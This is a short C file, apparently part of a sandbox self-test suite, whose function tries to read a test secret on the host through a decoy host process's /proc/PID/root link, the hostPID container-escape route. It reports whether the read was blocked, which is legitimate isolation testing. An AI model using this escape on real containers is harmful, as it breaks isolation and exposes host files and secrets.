/* Reading host files through /proc/PID/root of a host process: the
 * magic link is that process's root directory, the host's "/" (the
 * hostPID escape; also how CVE-2019-5736's relatives walk out). Reads
 * the runner's secret (SELFTEST_SECRET, a host path outside the rootfs)
 * through the decoy's root and prints it; the runner compares. */
#include "attack.h"

#include <fcntl.h>
#include <unistd.h>

int attack_proc_pid_root(void) {
    const char *secret = need_env("SELFTEST_SECRET");
    char what[4200], path[4300];
    snprintf(what, sizeof what, "root%s", secret);
    int fd = open_decoy_file(what, O_RDONLY, path, sizeof path);
    if (fd < 0)
        BLOCKED_ERRNO("open /proc/DECOY/root/SECRET");
    if (print_leak(fd) < 0)
        BLOCKED_ERRNO("read the secret");
    WORKED("read a host file through %s", path);
}
